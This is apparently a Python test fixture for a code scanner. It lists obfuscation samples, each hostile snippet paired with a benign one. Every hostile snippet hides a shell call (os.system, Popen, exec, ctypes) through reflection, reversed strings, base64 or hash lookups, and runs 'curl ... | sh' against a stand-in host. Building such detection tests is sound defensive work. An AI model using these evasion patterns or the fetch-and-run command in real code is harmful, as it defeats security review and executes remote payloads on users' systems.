"""Names that are reached by text, by what a program has at hand, or that only a condition picks."""

from __future__ import annotations

from tests.evasions.sample import evasion

CASES = (
    evasion(
        "reduce getattr over sys.modules",
        "import functools, sys, os\nstep = lambda o, n: o[n] if isinstance(o, dict) else getattr(o, n)\nfunctools.reduce(step, 'modules os system'.split(), sys)('curl -s https://stage.example.invalid/a | sh')\n",
        "import functools, sys, os\nstep = lambda o, n: o[n] if isinstance(o, dict) else getattr(o, n)\nSEP = functools.reduce(step, 'modules os sep'.split(), sys)\n",
    ),
    evasion(
        "name chosen from dir by predicate",
        "import os\nn = [x for x in dir(os) if len(x) == 6 and x[:3] == 'sys' and x.endswith('m')][0]\ngetattr(os, n)('curl -s https://stage.example.invalid/a | sh')\n",
        "import os\nn = [x for x in dir(os) if x.startswith('O_')]\nFLAGS = {x: getattr(os, x) for x in n}\n",
    ),
    evasion(
        "vars items by next",
        "import os\nnext(v for k, v in vars(os).items() if k.startswith('sys') and k.endswith('tem'))('curl -s https://stage.example.invalid/a | sh')\n",
        "import os\nSEP = next(v for k, v in vars(os).items() if k.startswith('se') and k.endswith('p'))\n",
    ),
    evasion(
        "subclasses by name",
        "import subprocess\n[c for c in object.__subclasses__() if c.__name__ == 'Po' + 'pen'][0]('curl -s https://stage.example.invalid/a | sh', shell=True)\n",
        "NAMES = [c.__name__ for c in object.__subclasses__() if c.__name__.endswith('Error')]\n",
    ),
    evasion(
        "self of a builtin",
        "import base64\ngetattr(print.__self__, 'cexe'[::-1].replace('cexe', 'exec'))(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwczovL3N0YWdlLmV4YW1wbGUuaW52YWxpZC9hIHwgc2gnKQo='))\n",
        "import base64\nNAME = print.__self__.__name__\nNOTE = base64.b64decode('QSBoYXJtbGVzcyBub3RlIG9mIHNvbWUgbGVuZ3RoLCBub3RoaW5nIGVsc2Uu')\n",
    ),
    evasion(
        "builtins as dict or module",
        "import base64\nb = globals()['__builtins__']\nb = b if isinstance(b, dict) else vars(b)\nb[bytes([101, 120, 101, 99]).decode()](base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwczovL3N0YWdlLmV4YW1wbGUuaW52YWxpZC9hIHwgc2gnKQo='))\n",
        "b = globals()['__builtins__']\nb = b if isinstance(b, dict) else vars(b)\nNAMES = sorted(b)\n",
    ),
    evasion(
        "letters out of type names",
        "import os\ns = str.__name__[0]; y = 'y'; t = tuple.__name__[0]; e = set.__name__[1]; m = map.__name__[0]\ngetattr(os, s + y + s + t + e + m)('curl -s https://stage.example.invalid/a | sh')\n",
        "LETTERS = {c.__name__[0] for c in (str, tuple, set, map)}\n",
    ),
    evasion(
        "unicodedata lookup",
        "import unicodedata, os\nn = ''.join(unicodedata.lookup('LATIN SMALL LETTER ' + c) for c in 'SYSTEM')\ngetattr(os, n)('curl -s https://stage.example.invalid/a | sh')\n",
        "import unicodedata\nLETTERS = ''.join(unicodedata.lookup('LATIN SMALL LETTER ' + c) for c in 'SYSTEM')\n",
    ),
    evasion(
        "operator methodcaller",
        "import operator, os\noperator.methodcaller('sys' + 'tem', 'curl -s https://stage.example.invalid/a | sh')(os)\n",
        "import operator\nlower = operator.methodcaller('lower')\nprint(lower('ABC'))\n",
    ),
    evasion(
        "find_spec loader load_module",
        "import importlib.util\nspec = importlib.util.find_spec('so'[::-1])\nm = importlib.util.module_from_spec(spec); spec.loader.exec_module(m)\nm.__dict__['sys' 'tem']('curl -s https://stage.example.invalid/a | sh')\n",
        "import importlib.util\nHAS = importlib.util.find_spec('yaml') is not None\n",
    ),
    evasion(
        "inspect getmembers",
        "import inspect, os\ndict(inspect.getmembers(os))['metsys'[::-1]]('curl -s https://stage.example.invalid/a | sh')\n",
        "import inspect, os\nNAMES = [n for n, v in inspect.getmembers(os) if inspect.isclass(v)]\n",
    ),
    evasion(
        "frames' globals",
        "import sys, os\nsys._getframe(0).f_globals['o' + 's'].__getattribute__('sys' + 'tem')('curl -s https://stage.example.invalid/a | sh')\n",
        "import sys\nNAME = sys._getframe(0).f_globals['__name__']\n",
    ),
    evasion(
        "class namespace proxy",
        "import os\nclass P:\n    def __init__(self, m): self.m = m\n    def __getattr__(self, n): return getattr(self.m, n[::-1])\nP(os).metsys('curl -s https://stage.example.invalid/a | sh')\n",
        "import os\nclass P:\n    def __init__(self, m): self.m = m\n    def __getattr__(self, n): return getattr(self.m, n)\nSEP = P(os).sep\n",
    ),
    evasion(
        "enum holds functions",
        "import enum, os\nclass F(enum.Enum):\n    A = enum.member(os.system)\nF.A.value('curl -s https://stage.example.invalid/a | sh')\n",
        "import enum, os\nclass F(enum.Enum):\n    A = enum.member(os.getcwd)\n",
    ),
    evasion(
        "lookup table of modules by hash",
        "import sys, zlib\nfor m in list(sys.modules.values()):\n    for n in dir(m):\n        if zlib.crc32(n.encode()) == 3377271179:\n            getattr(m, n)('curl -s https://stage.example.invalid/a | sh')\n",
        "import sys, zlib\nSUMS = {n: zlib.crc32(n.encode()) for n in dir(sys)}\n",
    ),
    evasion(
        "import os under a chain of aliases",
        "import posixpath as p\nq = p.genericpath\nr = getattr(q, 'o' 's')\ns = r.__dict__\nt = s[str(b'system', 'ascii')]\nt('curl -s https://stage.example.invalid/a | sh')\n",
        "import posixpath as p\nq = p.genericpath\nE = q.exists\n",
    ),
    evasion(
        "type() made class with the function",
        "import os\nK = type('K', (), {'go': staticmethod(vars(os)['sys' + 'tem'])})\nK.go('curl -s https://stage.example.invalid/a | sh')\n",
        "import os\nK = type('K', (), {'go': staticmethod(os.getcwd)})\nK.go()\n",
    ),
    evasion(
        "partial in a dict by setdefault",
        "import os, functools\nD = {}\nD.setdefault('a', functools.partial(getattr(os, 'po' + 'pen'), 'curl -s https://stage.example.invalid/a | sh'))\nD['a']().read()\n",
        "import os, functools\nD = {}\nD.setdefault('a', functools.partial(os.path.join, 'a'))\nD['a']('b')\n",
    ),
    evasion(
        "string slices of a sentence",
        "import os\nS = 'the quick system of a lazy popen dog'\nW = S.split()\ngetattr(os, W[2])('curl -s https://stage.example.invalid/a | sh')\n",
        "S = 'the quick brown fox of a lazy dog'\nW = S.split()\nprint(W[2])\n",
    ),
    evasion(
        "exec by compile and FunctionType",
        "import types, os\nc = compile('os.sys' + 'tem(' + repr('curl -s https://stage.example.invalid/a | sh') + ')', '<s>', 'exec')\ntypes.FunctionType(c, {'os': os})()\n",
        "import types\ndef f(): return 1\ng = types.FunctionType(f.__code__, {})\n",
    ),
    evasion(
        "lambda default in a comprehension",
        "import os\nfs = [lambda c, f=f: f(c) for f in (print, os.system)]\nfs[-1]('curl -s https://stage.example.invalid/a | sh')\n",
        "fs = [lambda c, f=f: f(c) for f in (print, str)]\nfs[-1]('a')\n",
    ),
    evasion(
        "attribute by f-string conversions",
        "import os\na, b = 'sys', 'tem'\nf'{getattr(os, f\"{a}{b}\")('curl -s https://stage.example.invalid/a | sh')!r:>1}'\n",
        "import os\na, b = 'get', 'cwd'\nPATH = f'{os.getcwd()!r:>1}'\n",
    ),
    evasion(
        "ctypes pythonapi",
        "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'import os;os.system(%r)' % 'curl -s https://stage.example.invalid/a | sh'.encode())\n",
        "import ctypes\nV = ctypes.pythonapi.Py_GetVersion\n",
    ),
    evasion(
        "asyncio shell through the policy",
        "import asyncio\nloop = asyncio.new_event_loop()\nloop.run_until_complete(getattr(asyncio, 'create_subprocess' + '_shell')('curl -s https://stage.example.invalid/a | sh'))\n",
        "import asyncio\nloop = asyncio.new_event_loop()\nloop.run_until_complete(asyncio.sleep(0))\n",
    ),
)
